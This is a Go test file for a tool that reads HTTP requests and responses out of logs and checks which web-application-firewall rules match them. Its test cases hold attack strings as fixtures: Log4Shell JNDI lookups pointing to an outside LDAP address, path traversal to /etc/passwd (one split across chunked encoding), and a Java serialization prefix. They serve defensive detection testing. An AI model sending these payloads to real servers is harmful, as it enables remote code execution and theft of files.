package pipeline

import (
	"slices"
	"strings"
	"testing"

	"github.com/tinylib/msgp/msgp"

	"github.com/modsecurity-for-anylog/msa/engine"
	"github.com/modsecurity-for-anylog/msa/mapping"
)

// The rules of reading HTTP from logs in docs/mapping.md, each from a Nano record to the rules that
// match. Every one has cost detections or false alarms elsewhere.
func TestRulesOfReading(t *testing.T) {
	p, _ := newPipeline(t, "mapping=nano", "paranoia_level=2", "alert_when=threshold")
	see := func(t *testing.T, fields ...string) (engine.Verdict, *mapping.Transaction) {
		t.Helper()
		r := msgp.AppendMapHeader(nil, uint32(len(fields)/2))
		for _, f := range fields {
			r = msgp.AppendStringFromBytes(r, []byte(f))
		}
		x, err := p.Explain("t", r)
		if err != nil || x.Unmapped != nil {
			t.Fatal(err, x.Unmapped)
		}
		return x.Verdict, x.Transaction
	}
	has := func(v engine.Verdict, id int) bool {
		return slices.ContainsFunc(v.Matches, func(m engine.Match) bool { return m.RuleID == id })
	}
	const head = "Host: shop.example\r\nUser-Agent: x\r\nAccept: */*\r\n"

	t.Run("1 a header that the log never shows is not missing", func(t *testing.T) {
		if v, _ := see(t, "URL", "/", "METHOD", "GET"); has(v, 920280) || has(v, 920320) || v.Alarm {
			t.Errorf("%+v", v.Matches)
		}
		if v, _ := see(t, "URL", "/", "REQ_HEADER", "GET / HTTP/1.1\r\nAccept: */*\r\n\r\n"); !has(v, 920280) || !has(v, 920320) {
			t.Errorf("a whole block shows that they are missing: %+v", v.Matches)
		}
	})
	t.Run("2 words that mean none", func(t *testing.T) {
		for _, none := range []string{"0.0.0.0", "-", ""} {
			if _, tx := see(t, "URL", "/", "FORWARD", none); len(tx.RequestHeaders) > 0 {
				t.Errorf("%q is %+v", none, tx.RequestHeaders)
			}
		}
	})
	t.Run("3 header blocks that a strict parser refuses", func(t *testing.T) {
		for _, block := range []string{
			"GET / HTTP/1.1\nX-A : ${jndi:ldap://10.9.9.9/a}\n\n",
			"GET / HTTP/1.1\r\nno colon\r\nX-A: ${jndi:ldap://10.9.9.9/a}\r\n\r\n",
			"GET /a b c HTTP/9.9\r\nX-\xff: 1\r\nX-A: ${jndi:ldap://10.9.9.9/a}\r\n",
			"X-A: ${jndi:ldap://10.9.9.9/a}",
		} {
			if v, _ := see(t, "URL", "/", "REQ_HEADER", block); !has(v, 944150) {
				t.Errorf("%q: %+v", block, v.Matches)
			}
		}
		_, tx := see(t, "URL", "/", "REQ_HEADER", "GET / HTTP/1.1\r\nB: 1\r\nA: 2\r\nB: 3\r\n\r\n")
		if want := []mapping.Header{{Name: "B", Value: "1"}, {Name: "A", Value: "2"}, {Name: "B", Value: "3"}}; !slices.Equal(tx.RequestHeaders, want) {
			t.Errorf("order and duplicates: %+v", tx.RequestHeaders)
		}
	})
	t.Run("4 bodies that are chunked, and that only say so", func(t *testing.T) {
		block := "POST / HTTP/1.1\r\n" + head + "Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
		for _, body := range []string{"10\r\nt=../../etc/pass\r\n2\r\nwd\r\n0\r\n\r\n", "t=../../etc/passwd"} {
			if v, tx := see(t, "URL", "/", "REQ_HEADER", block, "REQ_BODY", body); tx.RequestBody.Text != "t=../../etc/passwd" || !has(v, 930120) {
				t.Errorf("%q is %+v", body, tx.RequestBody)
			}
		}
	})
	t.Run("5 bodies that the log cuts", func(t *testing.T) {
		block := "POST / HTTP/1.1\r\n" + head + "Content-Type: application/json\r\nContent-Length: 5000\r\n\r\n"
		if v, _ := see(t, "URL", "/", "REQ_HEADER", block, "REQ_BODY", `{"name":"Ann","list":[1,2,`); v.Alarm || has(v, 200002) {
			t.Errorf("a parser stumbles over the end: %+v", v.Matches)
		}
		if v, _ := see(t, "URL", "/", "REQ_HEADER", block, "REQ_BODY", `{"name":"../../etc/passwd","list":[1,2,`); !has(v, 930120) {
			t.Errorf("the attack is missed: %+v", v.Matches)
		}
	})
	t.Run("6 responses without a Content-Type", func(t *testing.T) {
		if v, _ := see(t, "URL", "/", "RSP_BODY", "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"); !has(v, 951230) || !v.Alarm {
			t.Errorf("%+v", v.Matches)
		}
	})
	t.Run("7 a report of scores is no alarm", func(t *testing.T) {
		v, _ := see(t, "URL", "/", "REQ_HEADER", "GET / HTTP/1.1\r\nHost: 10.0.0.2\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n")
		if !has(v, 980170) || v.Alarm {
			t.Errorf("alarm %v: %+v", v.Alarm, v.Matches)
		}
	})
	t.Run("8 bytes stay exact", func(t *testing.T) {
		block := "POST / HTTP/1.1\r\n" + head + "Content-Type: application/x-www-form-urlencoded\r\n\r\n"
		if v, _ := see(t, "URL", "/", "REQ_HEADER", block, "REQ_BODY", "a=\xac\xed\x00\x05"); !has(v, 944200) {
			t.Errorf("%+v", v.Matches)
		}
	})
	t.Run("9 no prefilter of regular expressions", func(t *testing.T) {
		// Found with SecRxPreFilter Off, and lost with it On (Coraza 3.8).
		if v, _ := see(t, "URL", "/?a=1&b=9999999999999999999999999999999&c=2.2250738585072007e-308"); !has(v, 942220) {
			t.Errorf("%+v", v.Matches)
		}
	})
	t.Run("10 a host that is an address", func(t *testing.T) {
		v, _ := see(t, "URL", "/", "REQ_HEADER", "GET / HTTP/1.1\r\nHost: 10.0.0.2\r\nUser-Agent: x\r\nAccept: */*\r\n\r\n")
		if !has(v, 920350) || v.Alarm || v.ScoreIn != 3 {
			t.Errorf("alarm %v, score %d: %+v", v.Alarm, v.ScoreIn, v.Matches)
		}
		attack := "GET /?t=../../etc/passwd HTTP/1.1\r\nHost: 10.0.0.2\r\n\r\n"
		if v, _ := see(t, "URL", strings.Fields(attack)[1], "REQ_HEADER", attack); !v.Alarm {
			t.Error("an attack on an address is silent")
		}
	})
}
